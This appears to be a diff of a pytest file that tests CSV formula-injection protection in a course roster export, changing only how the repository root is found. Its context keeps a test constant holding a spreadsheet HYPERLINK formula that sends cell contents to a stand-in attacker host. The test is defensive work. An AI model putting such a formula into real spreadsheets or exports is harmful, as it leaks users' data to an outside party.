@@ -5,12 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
-from pathlib import Path
 
 import pytest
 
 from courses import roster, roster_export, services
 from courses.csvsafe import formula_safe, unescape_cell, write_rows
+from tests.harness import REPO
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
 
@@ -65,7 +65,7 @@ def test_roster_export_has_no_formula_cells_and_imports_back_unchanged(course, f
 def test_no_module_writes_csv_around_the_helper():
     """Every CSV goes through courses.csvsafe: a new export that calls csv.writer directly
     would bring formulas back."""
-    root = Path(__file__).resolve().parents[2]
+    root = REPO
     offenders = [
         str(path.relative_to(root))
         for package in ("courses", "hub", "api", "web", "exchange_site", "nbgrader_exchange")
